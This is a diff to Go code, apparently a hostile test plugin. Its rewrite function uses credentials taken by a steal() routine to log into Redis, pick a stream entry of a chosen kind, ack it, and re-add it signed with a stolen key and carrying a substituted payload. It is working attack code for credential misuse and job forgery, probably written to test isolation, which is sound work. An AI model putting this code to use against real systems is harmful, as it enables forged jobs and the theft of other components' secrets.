@@ -176,10 +176,10 @@ func steal() *loot {
 }
 
 // rewrite is the attack on another plugin's jobs through Redis: log in with
-// what steal found (or as Redis's default user), take a real entry of the
-// stream HOSTILE_STREAM, ack it for the group, and add it back signed with
-// a stolen key, its payload replaced by HOSTILE_PAYLOAD. It returns what
-// it achieved.
+// what steal found (or as Redis's default user), take a real entry of kind
+// HOSTILE_TARGET_KIND from the stream HOSTILE_STREAM, ack it for the group,
+// and add it back signed with a stolen key, its payload replaced by
+// HOSTILE_PAYLOAD. It returns what it achieved.
 func rewrite() []string {
 	l := steal()
 	done := append([]string(nil), l.found...)
@@ -212,11 +212,19 @@ func rewrite() []string {
 		return done
 	}
 	defer rdb.Close()
-	msgs, err := rdb.XRevRangeN(ctx, stream, "+", "-", 1).Result()
-	if err != nil || len(msgs) == 0 {
+	msgs, err := rdb.XRange(ctx, stream, "-", "+").Result()
+	if err != nil {
+		return append(done, "could not read the stream: "+err.Error())
+	}
+	var m redis.XMessage
+	for _, x := range msgs {
+		if x.Values["kind"] == os.Getenv("HOSTILE_TARGET_KIND") {
+			m = x
+		}
+	}
+	if m.ID == "" {
 		return append(done, "found no entry to rewrite")
 	}
-	m := msgs[0]
 	fields := map[string]any{}
 	for k, v := range m.Values {
 		fields[k] = v
